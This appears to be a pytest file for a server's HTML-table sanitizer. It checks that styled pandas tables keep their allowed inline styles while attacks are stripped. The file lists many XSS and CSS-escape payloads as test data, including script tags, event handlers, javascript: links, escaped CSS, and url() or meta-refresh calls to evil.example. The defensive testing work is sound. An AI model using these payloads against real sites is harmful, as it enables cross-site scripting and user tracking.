"""HTML tables in cards: a card's ``text/html`` (``DataFrame.style``, ``df.to_html()``, ``IPython.display.HTML``)
reaches pages as table markup with inline styles from an allowlist, and nothing else of it.

The attacks: scripts and event handlers inside a table, CSS that escapes the tile (``position: fixed``,
``z-index``, a page class or id borrowed), ``url()`` backgrounds that call out, ``javascript:`` links,
and the spellings that hide them (CSS escapes, comments, upper case, entities). Before the fix, HTML was
dropped whole: no styled table showed at all.
"""

from __future__ import annotations

import re

import pytest

from server.execution.html_tables import clean, clean_style
from server.execution.sanitize import sanitize_output
from server.limits import HTML_ELEMENTS, STYLE_CHARS
from tests.server.conftest import api, start_server  # noqa: F401 - fixtures
from tests.server.test_sessions import open_session, root, run, start_cards  # noqa: F401 - fixtures

STYLED = r"""
import pandas as pd
from IPython.display import HTML, display
df = pd.DataFrame({"店舗": ["東京", "大阪", "名古屋"], "売上": [120, 80, -30], "率": [0.5, 0.2, 0.9]})
display(df.style.bar(subset=["売上"], color="#d65f5f").background_gradient(subset=["率"])
        .set_caption("売上表")
        .set_table_styles([{"selector": "th", "props": "font-weight: bold; text-align: left"},
                           {"selector": "", "props": "position: fixed; top: 0; left: 0; z-index: 99999;"
                                                     " background: url(https://evil.example/beacon.png)"}])
        .set_table_attributes('class="modal" onmouseover="alert(1)"'))
display(HTML('<style>@import url(https://evil.example/x.css); td { position: absolute; color: green }</style>'
             + df.to_html(render_links=True).replace("東京", "<a href='javascript:alert(2)'>東京</a>"
                                                    "<img src=x onerror=alert(3)><script>alert(4)</script>")))
display(HTML("<b>no table here</b><script>alert(5)</script>"))
"""

ESCAPES = ("position", "z-index", "url(", "javascript", "script", "onerror", "onmouseover", "<img", "<style",
           "@import", "class=", "id=", "evil.example")


async def test_styled_tables_keep_their_look_and_lose_the_attacks(start_cards):
    api = await start_cards()
    token = await api.add_user("styled@example.com")
    response = await run(api, token, await open_session(api, token), STYLED)
    assert response.code == 200, response.body[:300]
    styled, table, plain = response.json()["outputs"]
    html = styled["data"]["text/html"]
    assert re.search(r'<td style="width: 10em; background: linear-gradient\(90deg, [^"]*#d65f5f[^"]*\)">120</td>', html)
    assert "background-color: #023858; color: #f1f1f1" in html  # background_gradient's darkest cell
    assert "<caption>売上表</caption>" in html and 'font-weight: bold; text-align: left' in html
    assert "color: green" in table["data"]["text/html"] and "東京" in table["data"]["text/html"]
    for output in (styled, table):
        found = [escape for escape in ESCAPES if escape in output["data"]["text/html"].lower()]
        assert not found, (found, output["data"]["text/html"])
    assert plain["data"] == {"text/plain": "<IPython.core.display.HTML object>"}  # HTML without a table: not shown


HOSTILE_STYLES = [
    "position: fixed", "POSITION:FIXED", "z-index: 2147483647", "p\\6fsition: fixed", "pos/**/ition: fixed",
    "background: url(https://evil.example/a.png)", "background: URL(https://evil.example/a.png)",
    "background: u\\72l(https://evil.example/a.png)", "background-image: url('javascript:alert(1)')",
    "background: image-set('https://evil.example/a.png' 1x)", "width: expression(alert(1))",
    "color: var(--page-secret)", "color: attr(title)", "behavior: url(x.htc)", "-moz-binding: url(x.xml#a)",
    "background: linear-gradient(red, url(https://evil.example/a.png))", "transform: scale(100)",
    "display: block; float: left", "margin: -9999px", "content: 'x'", "font-family: '\\\\'",
    "width: calc(100vw + 1px)",
]


@pytest.mark.parametrize("style", HOSTILE_STYLES)
def test_no_hostile_declaration_survives(style):
    assert clean_style(style) == "", style


def test_the_styles_tables_need_survive():
    style = ("color: #f1f1f1; background-color: rgb(2, 56, 88); width: 10em; text-align: right; font-weight: bold;"
             " background: linear-gradient(90deg, transparent 20.0%, #d65f5f 20.0%, #d65f5f 100.0%,"
             " transparent 100.0%);"
             " border-bottom: 1px solid hsl(0 0% 80% / 0.5) !important")
    assert clean_style(style) == ("color: #f1f1f1; background-color: rgb(2, 56, 88); width: 10em; text-align: right; "
                                  "font-weight: bold; background: linear-gradient(90deg, transparent 20.0%, #d65f5f "
                                  "20.0%, #d65f5f 100.0%, transparent 100.0%); border-bottom: 1px solid "
                                  "hsl(0 0% 80% / 0.5)")


HOSTILE_MARKUP = [
    "<a href='javascript:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>", "<a href=' javascript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<a href='vbscript:x'>x</a>",
    "<img src=x onerror=alert(1)>", "<svg><script>alert(1)</script></svg>", "<math><mi>x</mi></math>",
    "<iframe src='https://evil.example'></iframe>", "<form action='https://evil.example'><input name=p></form>",
    "<base href='https://evil.example/'>", "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>", "<style>td{position:fixed}</style>",
    "<div onclick=alert(1) id=app class=modal>x</div>", "<object data=x></object>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<td background='https://evil.example/a.png'>x</td>", "<table><tr><td style='background:url(https://evil.example)'>x</td></tr></table>",
]


@pytest.mark.parametrize("markup", HOSTILE_MARKUP)
def test_no_hostile_markup_survives(markup):
    cleaned = clean(f"<table><tr><td>{markup}</td></tr></table>") or ""
    found = [word for word in ("javascript", "vbscript", "data:", "script", "onerror", "onclick", "<img", "<svg",
                               "<math", "<iframe", "<form", "<input", "<base", "<meta", "<link", "<style", "<object",
                               "position", "url(", "evil.example", "id=", "class=", "background=")
             if word in cleaned.lower()]
    assert cleaned.startswith("<table>") and not found, (found, cleaned)


def test_links_open_safely_in_a_new_tab():
    cleaned = clean("<table><tr><td><a href='https://example.com/report'>report</a></td></tr></table>")
    assert '<a href="https://example.com/report" target="_blank" rel="noopener noreferrer">report</a>' in cleaned


def test_cleaning_is_bounded_before_it_costs():
    rows = "<tr><td>1</td></tr>" * (HTML_ELEMENTS // 4)
    output = sanitize_output({"output_type": "display_data", "metadata": {},
                              "data": {"text/html": f"<table>{rows}</table>", "text/plain": "x"}})
    assert output["ename"] == "output_too_complex"
    cells = "".join(f"<td style='color: #{i:06x}; width: {i}px'>x</td>" for i in range(STYLE_CHARS // 20))
    output = sanitize_output({"output_type": "display_data", "metadata": {},
                              "data": {"text/html": f"<table><tr>{cells}</tr></table>", "text/plain": "x"}})
    assert output["ename"] == "output_too_complex"


def test_what_pandas_and_matplotlib_make_passes_the_parser_work_bounds():
    """The bounds on open formatting elements and nesting (``markup_work``) refuse none of these."""
    import io

    import matplotlib
    import pandas as pd

    from kernels.html_output import inline
    from server.execution.sanitize import clean_svg

    matplotlib.use("agg")
    from matplotlib import pyplot

    df = pd.DataFrame({"url": [f"https://example.com/{i}" for i in range(300)], "n": range(300),
                       "s": [f"<b>{i}</b>" for i in range(300)]})
    styled = inline(df.style.bar(subset=["n"]).background_gradient(subset=["n"]).format(hyperlinks="html")
                    .set_caption("<i>caption</i>").set_table_styles([{"selector": "th", "props": "color: red"}]))
    linked = df.to_html(render_links=True, escape=False)
    multi = pd.DataFrame({"v": range(40)}, index=pd.MultiIndex.from_product([list("ab"), range(4), range(5)])).to_html()
    for html in (styled, linked, multi):
        cleaned = clean(html)
        assert cleaned and cleaned.count("<tr") >= 40
    assert clean(styled).count('<a href="https://example.com/') == 300
    figure, axes = pyplot.subplots(2, 2)
    for n, ax in enumerate(axes.flat):
        ax.scatter(range(200), range(200), label="dots")
        ax.bar(range(10), range(10), label="bars")
        ax.set_title(f"$\\alpha_{n}$ <b>title</b>")
        ax.legend()
    svg = io.StringIO()
    figure.savefig(svg, format="svg")
    pyplot.close(figure)
    cleaned = clean_svg(svg.getvalue())
    assert cleaned and cleaned.count("<path") + cleaned.count("<use") > 800


OFF_SITE_LINKS = ["//evil.example/signin", "/api/auth/logout", "\\\\evil.example/x", "/\\evil.example", "signin.html",
                  "?next=//evil.example", "#top", "  //evil.example", "\t/\t/evil.example", "./x", "../api/me"]


@pytest.mark.parametrize("href", OFF_SITE_LINKS)
def test_links_are_absolute_http_or_mailto_only(href):
    """Relative and protocol-relative links (which ammonia passes whatever its schemes) are dropped: a table
    links nowhere on this site and nowhere whose scheme the page chooses (red team 4, F6)."""
    cleaned = clean(f"<table><tr><td><a href='{href}'>x</a></td></tr></table>") or ""
    assert cleaned.startswith("<table>") and "href" not in cleaned, cleaned


def test_absolute_links_keep_their_href():
    for href in ("https://example.com/a?b=1#c", "HTTP://example.com", "mailto:someone@example.com", " https://x.example"):
        cleaned = clean(f"<table><tr><td><a href='{href}'>x</a></td></tr></table>") or ""
        assert f'href="{href}"' in cleaned, cleaned
